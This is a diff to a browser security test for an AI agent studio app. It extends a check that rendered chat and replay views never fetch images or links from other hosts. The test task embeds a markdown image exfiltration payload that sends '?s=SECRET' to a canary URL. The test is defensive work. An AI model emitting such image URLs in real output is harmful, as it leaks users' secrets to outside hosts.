@@ -18,7 +18,7 @@ from playwright.sync_api import expect
 
 from studio.catalog import save_bundle
 from studio.spec import bundle_from_data
-from studio.store import open_store
+from studio.store import list_runs, open_store
 from tests.browser.conftest import wait_for_app
 
 pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
@@ -172,9 +172,13 @@ def test_t46_html_script_and_javascript_links_stay_inert(page, teams, artifacts_
     page.screenshot(path=str(artifacts_dir / "security-t46.png"), full_page=True)
 
 
-def test_t47_images_and_links_to_other_hosts_fetch_nothing(page, teams, canary, artifacts_dir: Path):
+def test_t47_images_and_links_to_other_hosts_fetch_nothing(
+    page, teams, canary, studio_server_info, artifacts_dir: Path
+):
     canary.requests.clear()
-    run_in_playground(page, teams, "t47-exfil", "Show me the exfiltration payload")
+    # The task is the human's, but it is shown in the session list, headings and the run picker: same rules.
+    task = f"Show me the payload ![]({canary.url}/task-image?s=SECRET)"
+    run_in_playground(page, teams, "t47-exfil", task)
     bubble = payload_bubble(page)
     time.sleep(2.0)  # give any lazy image or prefetch the time to fire
     assert canary.requests == []
@@ -182,13 +186,34 @@ def test_t47_images_and_links_to_other_hosts_fetch_nothing(page, teams, canary, 
     assert bubble.locator("a").count() == 0
     assert bubble.inner_text().count(f"[image removed: 127.0.0.1:{canary.port}]") >= 3
     assert f"{canary.url}/bare-url?s=SECRET" in bubble.inner_text()  # a bare URL is shown as text, not a link
+    page.screenshot(path=str(artifacts_dir / "security-t47.png"), full_page=True)
+
+    # The same run in Replay: timeline window, inspector JSON, run picker, costs and speakers views.
+    store = open_store(home=studio_server_info.home)
+    run = next(r for r in list_runs(store=store, limit=20) if r.team_name == "t47-exfil")
+    store.engine.dispose()
+    page.goto(f"{teams}/replay?run={run.id}")
+    wait_for_app(page)
+    page.get_by_role("button", name="Last").click()
+    wait_for_app(page)
+    page.get_by_role("button", name="Previous").click()  # the payload message, in the inspector too
+    wait_for_app(page)
+    expect(page.locator('[data-testid="stJson"]').first).to_contain_text("after-list-fence")
+    page.get_by_role("combobox", name="Run").click()  # the picker's options show the task
+    page.keyboard.press("Escape")
+    for view in ("Model calls", "Speakers", "Export"):
+        page.locator('[data-testid="stRadio"]').get_by_text(view, exact=True).click()
+        wait_for_app(page)
+    time.sleep(1.5)
+    assert canary.requests == []
+    assert page.locator(f'img[src*="{canary.port}"]').count() == 0
+
     # Positive control: the browser can reach the canary, so the empty log above means something.
     page.evaluate(f"fetch('{canary.url}/control').catch(() => null)")
     deadline = time.monotonic() + 5
     while not canary.requests and time.monotonic() < deadline:
         time.sleep(0.05)
     assert canary.requests == ["/control"]
-    page.screenshot(path=str(artifacts_dir / "security-t47.png"), full_page=True)
 
 
 def test_t48_controls_visible_huge_output_capped_and_page_responsive(page, teams, artifacts_dir: Path):
